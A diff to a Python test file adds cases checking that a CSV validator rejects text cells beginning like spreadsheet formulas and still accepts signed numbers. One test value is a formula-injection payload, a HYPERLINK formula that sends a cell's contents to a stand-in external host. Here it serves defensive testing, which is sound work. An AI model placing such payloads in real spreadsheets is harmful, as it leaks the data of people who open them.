@@ -61,6 +61,12 @@ def test_a_good_table_loads_with_types(data_dir):
         ("title", "x" * 71, "at most 70 are allowed"),
         ("date", "2013-12-31", "below the minimum"),
         ("title", " Minsk", "leading or trailing spaces"),
+        # A spreadsheet reads these as formulas; the book publishes its tables for download.
+        ("title", '=HYPERLINK("https://x.example/?"&A1)', "the start of a formula"),
+        ("description", "+1 more clause was signed.", "the start of a formula"),
+        ("description", "-- signed in Minsk", "the start of a formula"),
+        ("source_publisher", "@OSCE", "the start of a formula"),
+        ("actors", "=Ukraine;Russia", "the start of a formula"),
     ],
 )
 def test_a_broken_cell_is_reported_with_file_row_and_column(data_dir, column, bad_value, expected):
@@ -74,6 +80,16 @@ def test_a_broken_cell_is_reported_with_file_row_and_column(data_dir, column, ba
     assert expected in problem.message
     message = str(problem)
     assert "events.csv" in message and "row 2 (line 3)" in message and f"column '{column}'" in message
+
+
+def test_a_number_may_be_negative_although_text_may_not_start_like_a_formula():
+    """Typed fields keep their values: only text cells are refused for a leading - or +."""
+    from peacebook.cells import check_cell
+
+    assert check_cell("-3.5", {"type": "number"}, []) == -3.5
+    assert check_cell("-2", {"type": "integer"}, []) == -2 and check_cell("+2", {"type": "integer"}, []) == 2
+    with pytest.raises(ValueError, match="formula"):
+        check_cell("-2", {"type": "string"}, [])
 
 
 def test_every_problem_is_reported_at_once(data_dir):
